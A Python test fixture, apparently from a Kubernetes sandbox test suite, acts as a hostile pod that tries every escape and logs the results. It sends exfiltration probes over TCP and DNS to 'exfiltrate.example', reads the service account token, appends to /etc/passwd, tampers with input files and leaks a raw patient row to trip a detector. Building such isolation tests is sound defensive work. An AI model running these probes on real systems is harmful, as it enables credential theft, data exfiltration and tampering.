# Hostile, on the cluster: tries every way out of its pod and prints what happened to each as one
# line `PROBES <json>` (in the pod: to its log, sealed; in the test's control pod: to the kubelet's
# log). The targets are filled in by the test before the parties sign (TARGETS below).
#  - TCP to listeners the test runs (the node's loopback, the node's bridge address, a pod in
#    another namespace) and to the API server's service address; a DNS query to a resolver the
#    test runs on the node, to the pod's configured name servers, and a name lookup;
#  - in the instance (when /data/outputs exists): writing, truncating, deleting, chmod-ing and
#    renaming its inputs at every path it sees them (and at the provider's folder on the node),
#    reading a service account token, writing outside /scratch, /tmp and /data/outputs; and it
#    copies a raw input row into its output, for the tripwire.
import errno, json, os, socket, struct

TARGETS = {}


def failure(e):
    if isinstance(e, socket.timeout):
        return "timeout"
    if isinstance(e, socket.gaierror):
        return {socket.EAI_AGAIN: "EAI_AGAIN", socket.EAI_NONAME: "EAI_NONAME", socket.EAI_FAIL: "EAI_FAIL"}.get(e.errno, str(e))
    if isinstance(e, OSError) and e.errno is not None:
        return errno.errorcode.get(e.errno, str(e))
    return type(e).__name__


def attempt(fn):
    try:
        fn()
        return "done"
    except Exception as e:  # noqa: BLE001: every failure is the answer
        return failure(e)


def tcp(host, port):
    s = socket.create_connection((host, port), timeout=3)
    try:
        s.sendall(b"exfiltrated\n")
    finally:
        s.close()


def dns_query(host, port):
    """A DNS query for exfiltrate.example (type A); succeeds when any answer comes back."""
    query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"\x0aexfiltrate\x07example\x00" + struct.pack(">HH", 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    try:
        s.sendto(query, (host, port))
        s.recvfrom(512)
    finally:
        s.close()


def name_servers():
    try:
        with open("/etc/resolv.conf") as f:
            return [line.split()[1] for line in f if line.startswith("nameserver")]
    except OSError:
        return []


network = {name: attempt(lambda h=host, p=port: tcp(h, p)) for name, (host, port) in TARGETS["tcp"].items()}
dns_host, dns_port = TARGETS["dns"]
network["dns query to the node"] = attempt(lambda: dns_query(dns_host, dns_port))
for server in name_servers():
    network[f"dns query to {server}"] = attempt(lambda s=server: dns_query(s, 53))
network["name lookup"] = attempt(lambda: socket.getaddrinfo("kubernetes.default.svc.cluster.local", 443))
result = {"network": network}

if os.path.isdir("/data/outputs"):
    did = json.loads(os.environ["DIDS"])[0]
    mounted = "/datomspod/inputs/0/patients.csv"
    host_folder = TARGETS["hostFolder"]

    def append(path):
        with open(path, "a") as f:
            f.write("99,F,north,X,1\n")

    def create(path):
        with open(path, "x") as f:
            f.write("hostile\n")

    result["inputs"] = {
        "append ocean path": attempt(lambda: append(f"/data/inputs/{did}/0")),
        "truncate ocean path": attempt(lambda: open(f"/data/inputs/{did}/0", "w").close()),
        "append mount": attempt(lambda: append(mounted)),
        "chmod mount": attempt(lambda: os.chmod(mounted, 0o666)),
        "chown mount": attempt(lambda: os.chown(mounted, os.getuid(), os.getgid())),
        "unlink mount": attempt(lambda: os.unlink(mounted)),
        "rename mount": attempt(lambda: os.rename(mounted, "/datomspod/inputs/0/moved.csv")),
        "rename mount out": attempt(lambda: os.rename(mounted, "/scratch/patients.csv")),
        "unlink ocean link": attempt(lambda: os.unlink(f"/data/inputs/{did}/0")),
        "create in ocean inputs": attempt(lambda: create("/data/inputs/extra.csv")),
        "create beside the mount": attempt(lambda: create("/datomspod/inputs/0/extra.csv")),
        "append at the node's folder": attempt(lambda: append(f"{host_folder}/patients.csv")),
        "create the node's folder": attempt(lambda: os.makedirs(host_folder)),
    }
    result["serviceAccount"] = {
        "token": attempt(lambda: open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()),
        "secrets folder": attempt(lambda: os.listdir("/var/run/secrets")),
    }
    result["rootFilesystem"] = {
        "create /hostile": attempt(lambda: create("/hostile")),
        "create /etc/hostile": attempt(lambda: create("/etc/hostile")),
        "create /usr/hostile": attempt(lambda: create("/usr/hostile")),
        "create /datomspod/hostile": attempt(lambda: create("/datomspod/hostile")),
        "append /etc/passwd": attempt(lambda: append("/etc/passwd")),
        "write its tools": attempt(lambda: open("/datomspod/bin/supervise", "w").close()),
        "write the verdict": attempt(lambda: open("/datomspod/verified/inputs-verified", "w").close()),
        "write its code": attempt(lambda: open("/data/transformations/algorithm", "w").close()),
        "create /scratch/note": attempt(lambda: create("/scratch/note")),
        "create /tmp/note": attempt(lambda: create("/tmp/note")),
    }
    # A raw record of the input in the output: the tripwire must refuse it.
    with open(mounted) as f:
        header, first = f.readline(), f.readline()
    with open("/data/outputs/aggregates.csv", "w") as out:
        out.write(header + first)

print("PROBES " + json.dumps(result, sort_keys=True), flush=True)
